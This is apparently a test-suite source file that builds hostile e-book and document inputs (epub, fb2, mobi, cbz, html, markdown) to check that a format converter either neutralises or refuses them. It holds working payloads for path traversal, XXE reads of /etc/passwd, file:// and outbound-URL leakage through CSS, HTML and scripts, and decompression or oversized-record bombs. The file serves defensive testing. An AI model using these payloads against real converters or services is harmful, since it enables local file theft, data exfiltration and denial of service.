import { gzipSync } from 'node:zlib';
import { type Attack, harmless, refused } from './attack.ts';
import { epub, images, ladders, palm, places, xml } from './book-files.ts';
import { be16, be32, join, smallPng, zeros, zip, zipOf } from './bytes.ts';

export const books: readonly Attack[] = [
  ...['pdf', 'html', 'htmlz', 'docx', 'txt', 'azw3', 'fb2'].map((to) =>
    harmless(`epub-pictures-from-outside-${to}`, `epub ${to}`, (lure) => epub({ body: images(lure) }), { seconds: 40 }),
  ),
  ...['pdf', 'mobi'].map((to) =>
    harmless(
      `epub-manifest-climbs-${to}`,
      `epub ${to}`,
      (lure) =>
        epub({
          manifest: places(lure)
            .map((place, index) => `<item id="m${index}" href="${place}" media-type="image/png"/>`)
            .join(''),
          spine: '<itemref idref="m3"/>',
          meta: '<meta name="cover" content="m0"/>',
        }),
      { seconds: 40 },
    ),
  ),
  harmless('epub-package-outside', 'epub mobi', ({ file }) => epub({ root: `${ladders}${file}` }), { seconds: 30 }),
  harmless('epub-package-of-the-system', 'epub pdf', epub({ root: '/etc/passwd' }), { seconds: 30 }),
  harmless(
    'epub-link-among-its-files',
    'epub pdf',
    ({ image }) =>
      epub({
        body: '<img src="a.png"/>',
        manifest: '<item id="p" href="a.png" media-type="image/png"/>',
        more: [{ name: 'OEBPS/a.png', data: image, mode: 0o120777 }],
      }),
    { seconds: 30 },
  ),
  harmless('epub-climbing-entry', 'epub azw3', epub({ more: [{ name: '../../../../../../tmp/hostile-epub', data: 'x' }] }), {
    seconds: 30,
  }),
  ...['pdf', 'azw3'].map((to) =>
    harmless(
      `epub-style-that-imports-${to}`,
      `epub ${to}`,
      ({ file, call }) =>
        epub({
          head: `<style>@import url("${call}");@import "file://${file}";@font-face{font-family:a;src:url(${call})}body{background:url(file://${file});font-family:a}</style><link rel="stylesheet" href="${call}"/><base href="file:///etc/"/>`,
        }),
      { seconds: 30 },
    ),
  ),
  harmless(
    'epub-key-for-every-font',
    'epub mobi',
    epub({
      more: [
        {
          name: 'META-INF/encryption.xml',
          data: `${xml}<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#">${'<enc:EncryptedData><enc:EncryptionMethod Algorithm="http://www.idpf.org/2008/embedding"/><enc:CipherData><enc:CipherReference URI="../../etc/passwd"/></enc:CipherData></enc:EncryptedData>'.repeat(50)}</encryption>`,
        },
      ],
    }),
    { seconds: 30 },
  ),
  harmless(
    'epub-spine-of-9000',
    'epub txt',
    () =>
      epub({
        manifest: Array.from(
          { length: 9000 },
          (_, index) => `<item id="m${index}" href="c.xhtml" media-type="application/xhtml+xml"/>`,
        ).join(''),
        spine: Array.from({ length: 9000 }, (_, index) => `<itemref idref="m${index}"/>`).join(''),
      }),
    { seconds: 125 },
  ),
  harmless(
    'fb2-pictures-from-outside',
    'fb2 epub',
    (lure) =>
      `${xml}<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.org/1999/xlink"><description><title-info><book-title>t</book-title><coverpage><image l:href="file://${lure.image}"/></coverpage></title-info></description><body><section>${places(
        lure,
      )
        .map((place) => `<image l:href="${place}"/>`)
        .join(
          '',
        )}<p>t</p></section></body><binary id="../../../tmp/hostile-fb2" content-type="image/png">${smallPng().toString('base64')}</binary></FictionBook>`,
    { seconds: 30 },
  ),
  refused(
    'fb2-entity',
    'fb2 pdf',
    ({ file }) =>
      `${xml}<!DOCTYPE a [<!ENTITY a SYSTEM "file://${file}">]><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>&a;</p></section></body></FictionBook>`,
  ),
  refused('fb2-entity-in-a-zip', 'fb2 epub', ({ file }) =>
    zipOf({
      'a.fb2': `${xml}<!DOCTYPE a [<!ENTITY a SYSTEM "file://${file}">]><FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section><p>&a;</p></section></body></FictionBook>`,
    }),
  ),
  ...['epub', 'pdf', 'txt'].map((to) =>
    harmless(
      `htmlz-references-${to}`,
      `htmlz ${to}`,
      (lure) =>
        zipOf({
          'index.html': `<html><head><link rel="stylesheet" href="file://${lure.file}"></head><body><p>t</p>${images(lure)}<a href="file://${lure.file}">a</a><iframe src="file://${lure.file}"></iframe></body></html>`,
          'metadata.opf': `<package xmlns="http://www.idpf.org/2007/opf"><metadata/><guide><reference type="cover" href="${ladders}${lure.image}"/></guide></package>`,
        }),
      { seconds: 30 },
    ),
  ),
  harmless(
    'txtz-picture-of-a-file',
    'txtz epub',
    ({ file, image }) =>
      zipOf({
        'index.txt': `![a](${image}) ![b](file://${file})\n\n!${image}!\n\n<img src="file://${file}">\n`,
        'metadata.opf': `<package><metadata/><guide><reference type="cover" href="${image}"/></guide></package>`,
      }),
    { seconds: 30 },
  ),
  harmless(
    'pmlz-picture-of-a-file',
    'pmlz epub',
    ({ image }) => zipOf({ 'a.pml': `words \\m="${image}" \\m="${ladders}${image}" \\q="file://${image}"link\\q\n` }),
    { seconds: 30 },
  ),
  refused(
    'tcr-of-a-thousand-million-letters',
    'tcr txt',
    () => {
      const long = join('\xff', Buffer.alloc(255, 0x61));
      return join('!!8-Bit!!', ...Array.from({ length: 256 }, () => long), zeros(5_000_000));
    },
    { seconds: 60 },
  ),
  refused(
    'mobi-compressed-by-a-table-of-itself',
    'mobi txt',
    palm('BOOKMOBI', [
      join(be16(17_480), be16(0), be32(1e9), be16(2), be16(4096), be32(0), 'MOBI', be32(232), be32(2), be32(65_001), zeros(220)),
      zeros(4096),
      join('HUFF', be32(24), be32(24), be32(24), zeros(300)),
      join('CDIC', be32(16), be32(0xffff), be32(16), Buffer.alloc(300, 0xff)),
    ]),
    { seconds: 30 },
  ),
  harmless(
    'pdb-text-longer-than-it-is',
    'pdb txt',
    palm('TEXtREAd', [join(be16(2), be16(0), be32(0xffffffff), be16(0xffff), be16(4096), be32(0)), Buffer.alloc(4096, 0xbf)]),
    { seconds: 30 },
  ),
  refused('lrf-object-of-4-gigabytes', 'lrf txt', join('L\0R\0F\0\0\0', Buffer.alloc(300, 0xff)), { seconds: 30 }),
  refused('lit-directory-of-itself', 'lit txt', join('ITOLITLS\x01\0\0\0', Buffer.alloc(500, 0x10)), { seconds: 30 }),
  refused(
    'rb-with-65535-parts',
    'rb txt',
    join('\xb0\x0c\xb0\x0c\x02\0NUVO', zeros(14), Buffer.from('18000000ffffffff', 'hex'), zeros(400)),
    { seconds: 30 },
  ),
  refused('cbz-of-more-pages-than-it-may', 'cbz pdf', () =>
    zip(Array.from({ length: 10_050 }, (_, index) => ({ name: `${index}.png`, data: smallPng(), stored: true }))),
  ),
  harmless(
    'cbz-information-with-an-entity',
    'cbz epub',
    ({ file }) =>
      zipOf({
        '1.png': smallPng(),
        'ComicInfo.xml': `<!DOCTYPE a [<!ENTITY a SYSTEM "file://${file}">]><ComicInfo><Title>&a;</Title></ComicInfo>`,
      }),
    { seconds: 30 },
  ),
  refused('cbz-page-of-900-megapixels', 'cbz pdf', () =>
    zipOf({
      '1.png': Buffer.concat([smallPng().subarray(0, 16), Buffer.from([0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]), smallPng().subarray(24)]),
    }),
  ),
  refused('epub-in-gzip', 'epub pdf', () => gzipSync(epub({}))),
  ...['epub', 'pdf', 'docx'].map((to) =>
    harmless(
      `html-of-every-reference-${to}`,
      `html ${to}`,
      (lure) =>
        `<html><head><base href="file:///"><meta http-equiv="refresh" content="0;url=file://${lure.file}"><link rel="import" href="${lure.call}"><link rel="dns-prefetch" href="${lure.call}"><link rel="preload" as="image" href="${lure.call}"></head><body onload="location='file://${lure.file}'"><p>t</p>${images(lure)}${places(
          lure,
        )
          .map(
            (place) =>
              `<video src="${place}" poster="${place}"></video><embed src="${place}"><frame src="${place}"><input type="image" src="${place}"><picture><source srcset="${place}"></picture><body background="${place}"><table background="${place}"></table><form action="${place}"><button autofocus onfocus="form.submit()"></button></form>`,
          )
          .join(
            '',
          )}<script>for(const a of ["${lure.call}","file://${lure.file}"]){fetch(a);new WebSocket(a.replace("http","ws"));new EventSource(a);navigator.sendBeacon(a);new Worker(a);window.open(a)}</script></body></html>`,
      { seconds: 40 },
    ),
  ),
  ...['pdf', 'epub', 'html'].map((to) =>
    harmless(
      `md-references-${to}`,
      `md ${to}`,
      (lure) =>
        `# t\n\n${places(lure)
          .map((place) => `![a](${place})\n\n<iframe src="${place}"></iframe>\n\n[b]: ${place}\n\n![c][b]\n\n`)
          .join('')}<script>fetch("${lure.call}")</script>\n\n[x](javascript:alert(1))\n`,
      { seconds: 40 },
    ),
  ),
];
